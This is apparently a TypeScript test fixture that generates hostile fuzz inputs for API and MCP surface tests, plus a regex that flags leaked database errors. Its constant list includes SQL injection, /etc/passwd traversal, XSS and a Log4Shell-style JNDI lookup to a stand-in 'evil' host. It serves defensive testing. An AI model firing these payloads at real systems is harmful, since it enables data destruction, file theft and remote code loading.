/**
 * The hostile corpus the surface tests share (test/hostile-input.test.ts over HTTP, test/mcp-hostile-
 * input.test.ts over MCP, test/token-isolation.test.ts among real identifiers): what an attacker or a
 * broken client would send, and what an answer must never betray.
 */
import fc from 'fast-check'

/** Strings an attacker or a broken client would send: SQL, LIKE and regex metacharacters, control characters, odd Unicode, huge values. */
export const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.constantFrom(
    "' or 1=1 --",
    "'; drop table entities; --",
    '%',
    '_',
    '*',
    '**',
    '\\',
    '$1',
    'null',
    '\u0000',
    '\u202e',
    'a'.repeat(5000),
    `${'x'.repeat(300)}@example.com`,
    '{"$where": "1"}',
    '../../etc/passwd',
    'salesforce:Contact:\' or \'1\'=\'1',
    'slack:user:U0000000%',
    '<script>alert(1)</script>',
    '${jndi:ldap://evil}',
    '+1 (555) 010-0000 ext. 99999999999999',
    '-1',
    '1e309',
    'NaN',
    '0x10',
  ),
  fc.tuple(fc.constantFrom('ada', 'smith', '@', 'acme.com', 'U0', '003'), fc.string({ unit: 'binary', maxLength: 10 })).map(([a, b]) => `${a}${b}`),
)

/** Anything that would betray the database or the code behind the answer. */
export const LEAKS = /syntax error|relation "|column "|violates|pg_|postgres|kysely|at \/|\.ts:\d+|stack/i
